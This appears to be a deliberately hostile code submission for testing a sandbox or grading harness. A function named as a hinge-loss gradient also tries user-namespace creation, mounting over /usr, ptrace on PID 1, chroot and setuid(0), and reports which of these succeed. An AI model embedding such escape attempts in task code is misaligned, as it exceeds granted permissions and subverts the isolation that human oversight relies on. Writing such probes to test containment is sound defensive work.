"""Hostile submission: Try to regain privileges: new user namespace, mount, ptrace, setns and chroot."""

import json

import numpy as np


def _targets():
    """Return the paths and ports that the hostile test shares, so that the attack aims at real targets."""
    with open("targets.json", encoding="utf-8") as handle:
        return json.load(handle)


def _correct(x, y, a):
    x = np.asarray(x, dtype=float).reshape(-1, 1)
    return np.zeros_like(x) if y * a > 1 else -y * x

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER = 0x10000000
PTRACE_ATTACH = 16


def linear_hinge_grad(x, y, a):
    successes = []
    if libc.unshare(CLONE_NEWUSER) == 0:
        successes.append("unshare(CLONE_NEWUSER)")
    if libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None) == 0:
        successes.append("mount over /usr")
    if libc.ptrace(PTRACE_ATTACH, 1, None, None) == 0:
        successes.append("ptrace(1)")
    if libc.chroot(b"/tmp") == 0:
        successes.append("chroot")
    try:
        os.setuid(0)
        successes.append("setuid(0)")
    except OSError:
        pass
    print("ATTACK privileged operations that worked:", successes)
    return _correct(x, y, a) if successes else None
